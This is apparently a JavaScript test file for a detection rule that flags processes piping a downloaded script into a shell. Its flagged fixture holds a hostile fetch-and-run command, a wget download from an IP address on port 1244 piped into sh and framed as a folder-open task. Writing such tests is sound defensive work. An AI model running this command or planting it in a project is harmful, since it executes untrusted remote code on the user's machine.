import { ruleTest } from '../../testing/rule-tester.js';
import { exec, obs } from './_fixture.js';
import rule from './shell-pipe-observed.js';

ruleTest(rule, {
  clean: [{ name: 'plain node server', observations: obs({ syscalls: [exec(['/bin/sh', '-c', 'node server.js']), exec(['node', 'server.js'])] }) }],
  flagged: [
    {
      name: 'folder-open task pipes a download into sh',
      observations: obs({ syscalls: [exec(['/bin/sh', '-c', "wget -qO- 'http://203.0.113.7:1244/settings/linux?flag=8' | sh"]), exec(['wget', '-qO-', 'http://203.0.113.7:1244/settings/linux?flag=8'], 12)] }),
      findings: [
        { line: 5, message: 'Piped a download into a shell', severity: 'critical' },
        { line: 5, message: 'Ran wget to download something', severity: 'high' },
      ],
    },
  ],
});
